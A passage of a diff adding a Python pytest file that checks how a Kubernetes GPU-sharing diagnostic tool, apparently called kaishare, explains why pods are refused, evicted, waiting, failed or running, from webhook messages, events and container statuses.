+        _in_vcluster({"grouped": False}, "the object has been modified"),
+        Code.KAI_NOT_SERVED,
+        "are not on this",
+    ),
+    (
+        _in_vcluster({"grouped": False}, f"{_KAI_DENIED}GPU sharing is disabled"),
+        Code.GPU_SHARING_OFF,
+        "GPU sharing is off in KAI",
+    ),
+    (_in_vcluster({"unschedulable": _OVER_LIMIT}), Code.QUEUE_OVER_LIMIT, "may use 1 GPU and uses 1"),
+]
+
+
+def _refused(message: str, age: float = 10, **fields: Any) -> PodEvidence:
+    event = make_event("FailedCreate", f"Error creating: {message}", kind="ReplicaSet", name="web-1", age=age)
+    return make_evidence(GONE, kind="Deployment", name="web", creation_events=[event], **fields)
+
+
+def _evict(age: float) -> list[Event]:
+    return [make_event("Evict", "by higher priority", kind="PodGroup", name="web", age=age)]
+
+
+_POLICY = (
+    "ValidatingAdmissionPolicy 'kaishare-guard-keys' with binding 'kaishare-guard-keys' denied request: a"
+)
+_OURS = 'admission webhook "pods.validate.kaishare.dev" denied the request: above the cap'
+_UNREACHABLE = 'failed calling webhook "pods.mutate.kaishare.dev": timeout'
+_CLASS = 'pods "a" is forbidden: no PriorityClass with name urgent was found'
+NO_POD: list[_Row] = [
+    (_refused(_OURS), Code.REFUSED_BY_GUARD, "kaishare refuses the pod: above the cap"),
+    (_refused(_POLICY), Code.REFUSED_BY_GUARD, "kaishare refuses the pod: a"),
+    (
+        _refused('admission webhook "validate.nginx.io" denied the request: no'),
+        Code.REFUSED_AT_CREATION,
+        "validate.nginx.io refuses the pod: no",
+    ),
+    (_refused(f"{_KAI_DENIED}bad value"), Code.REFUSED_BY_KAI, "KAI refuses the pod: bad value"),
+    (_refused(_UNREACHABLE), Code.WEBHOOK_UNREACHABLE, "kaishare does not answer (pods.mutate.kaishare.dev)"),
+    (_refused(_CLASS), Code.PRIORITY_CLASS_MISSING, "the PriorityClass urgent, which does not exist"),
+    (
+        _refused("spec.containers: Required value"),
+        Code.REFUSED_AT_CREATION,
+        "refuses the pod: Error creating: spec",
+    ),
+    # The newer of a refusal and an eviction is the cause; a workload that wants no pods is not refused any more.
+    (_refused("no", 50, group_events=_evict(5)), Code.EVICTED, "for a workload of higher priority"),
+    (_refused("no", 5, group_events=_evict(50)), Code.REFUSED_AT_CREATION, "no"),
+    (_refused("no", workload=_owner(spec={"replicas": 0})), Code.NO_POD, "Deployment web has 0 replicas"),
+    (_refused("no", workload=_owner(spec={"suspend": True})), Code.NO_POD, "Deployment web is suspended"),
+    (make_evidence(GONE, kind="Job", name="a"), Code.NO_POD, "has no pod, and no Event says why"),
+]
+
+
+def _runs(kind: str = "main", **status: Any) -> PodEvidence:
+    """Return an old pod with an init container and a container, one of them with this status."""
+    init = [{"name": "wait-for-database", **(status if kind == "init" else {})}]
+    main = [{"name": "main", **(status if kind == "main" else {})}]
+    statuses = {"initContainerStatuses": init, "containerStatuses": main}
+    return _of({**_RUNS, "status": statuses, "age": 864_000})
+
+
+def _unready(*containers: dict[str, Any]) -> PodEvidence:
+    ready = {"type": "Ready", "status": "False", "lastTransitionTime": at(600)}
+    return _of({**_RUNS, "age": 900, "conditions": [ready], "containers": containers})
+
+
+def _ended(code: int, reason: str = "") -> dict[str, Any]:
+    return {"terminated": {"exitCode": code, "reason": reason}}
+
+
+def _began(seconds_ago: float) -> dict[str, Any]:
+    return {"running": {"startedAt": at(seconds_ago)}}
+
+
+_BROKEN: dict[str, Any] = {"restartCount": 3, "lastState": _ended(1)}
+_BACK_OFF = {"waiting": {"reason": "CrashLoopBackOff", "message": "back-off 5m0s"}}
+_ADMISSION = {"reason": "UnexpectedAdmissionError", "message": "no devices"}
+_OUTSIDE: dict[str, Any] = {**_RUNS, "scheduler": "default-scheduler", "fraction": None, "grouped": False}
+_ELSEWHERE = make_pod(
+    name="poses",
+    labels={keys.APP_LABEL: keys.RESERVATION_APP, keys.GPU_GROUP: "group-1"},
+    annotations={keys.RESERVED_GPU: "GPU-1"},
+    **_RUNS,
+)
+_SHARES = {**_RUNS, "labels": {keys.GPU_GROUP: "group-1"}}
+BOUND: list[_Row] = [
+    (_of({"metadata": {"deletionTimestamp": at(60)}}), Code.TERMINATING, "is being deleted"),
+    (_of({**_RUNS, "phase": "Succeeded"}), Code.SUCCEEDED, "have ended without an error"),
+    (
+        _of({"phase": "Failed", "containers": [{"name": "main", "state": _ended(137, "OOMKilled")}]}),
+        Code.FAILED,
+        "container main ended with exit code 137 (OOMKilled)",
+    ),
+    (_of({"phase": "Failed", "status": _ADMISSION}), Code.FAILED, "UnexpectedAdmissionError: no devices"),
+    (
+        _runs(state=_BACK_OFF, lastState=_ended(1)),
+        Code.CONTAINER_WAITING,
+        "CrashLoopBackOff: back-off 5m0s; it ended with exit code 1",
+    ),
+    (_runs(state=_ended(1)), Code.CONTAINER_WAITING, "main has ended with exit code 1"),
+    (_runs(restartCount=90, lastState=_ended(137)), Code.CONTAINER_WAITING, "has been restarted 90 times"),
+    # Failures that are over are no problem for ever.
+    (_runs("init", **_BROKEN, state=_ended(0)), Code.RUNNING, "nothing is wrong"),
+    (_runs(**_BROKEN, state=_ended(0)), Code.RUNNING, "nothing is wrong"),
+    (_runs(**_BROKEN, state=_began(800_000)), Code.RUNNING, "nothing is wrong"),
+    (_runs(**_BROKEN, state=_began(400_000)), Code.CONTAINER_WAITING, "restarted 3 times"),
+    (_runs(**_BROKEN, state={"running": {}}), Code.CONTAINER_WAITING, "restarted 3 times"),
+    (_runs("init", **_BROKEN, state=_ended(1)), Code.CONTAINER_WAITING, "wait-for-database has ended"),
+    (_of({"node": "node-1"}), Code.CONTAINER_WAITING, "has not started its containers for 90 s"),
+    (_of({"node": "node-1", "phase": ""}), Code.CONTAINER_WAITING, "has not started its containers"),
+    (
+        _unready({"name": "main", "state": {"running": {}}}),
+        Code.CONTAINER_WAITING,
+        "main is not ready for 10 min",
+    ),
+    (_unready({"ready": True, "state": {"running": {}}}), Code.CONTAINER_WAITING, "and its containers are"),
+    # A container that is done is not waited for.
+    (
+        _unready({"state": _ended(0)}, {"ready": True, "state": {"running": {}}}),
+        Code.RUNNING,
+        "nothing is wrong",
+    ),
+    (
+        _of({**_RUNS, "phase": "Unknown", "status": {"reason": "NodeLost"}}),
+        Code.CONTAINER_WAITING,
+        "the kubelet of the pod's node does not answer (NodeLost)",
+    ),
+    (_of({**_RUNS, "phase": "Unknown"}), Code.CONTAINER_WAITING, "answer (phase Unknown)"),
+    (_of(_RUNS), Code.RUNNING, "nothing is wrong; the pod has 0.5 of a GPU"),
+    (_of(_OUTSIDE), Code.OTHER_SCHEDULER, "its queue does not count"),
+    (_of({**_OUTSIDE, "metadata": {"labels": {}}}), Code.OUTSIDE_KAI, "default-scheduler schedules the pod"),
+    # Reservation pods in another namespace prove nothing.
+    (_of(_SHARES, shared_gpu_pods=[_ELSEWHERE]), Code.RUNNING, "whether its GPU is reserved is not known"),
+    (
+        _of(_SHARES, shared_gpu_pods=[make_reservation()]),
+        Code.RUNNING,
+        "nothing is wrong; the pod has 0.5 of a",
+    ),
+]
+_FINE = (Code.RUNNING, Code.SUCCEEDED, Code.OUTSIDE_KAI)
+
+
+@pytest.mark.parametrize(
+    ("evidence", "code", "words"),
+    [*KAIS_WORDS, *NOT_TOLD, *CLAIMS, *ROOM, *GUARD, *IN_VCLUSTER, *NO_POD, *BOUND],
+)
+def test_the_cause_follows_from_the_evidence(evidence: PodEvidence, code: Code, words: str) -> None:
+    answer = explain(evidence)
+    assert answer.cause.code is code
+    assert words in answer.cause.sentence
+    assert answer.is_fine is (code in _FINE)
+
+
+@pytest.mark.parametrize("evidence", [row[0] for row in IN_VCLUSTER])
+def test_in_a_vcluster_the_hosts_administrators_are_asked(evidence: PodEvidence) -> None:
+    remedies = explain(evidence).cause.remedies
+    assert remedies[-1].command == "kaishare why -n HOST_NAMESPACE train-0-x-team-x-VCLUSTER"
+    assert not any("queues.scheduling" in remedy.command for remedy in remedies)
+
+
+def test_less_is_asked_for_only_where_a_part_of_a_gpu_is_free() -> None:
+    evidence, _, _ = ROOM[0]
+    assert find_cause(evidence).details == {"largestFreeGpu": 0.7, "freeGpus": 0.7}
+    shrinks = [any("request less" in act for act in _acts(row[0])) for row in ROOM]
+    assert shrinks == [True, False, False, *[True] * 5]
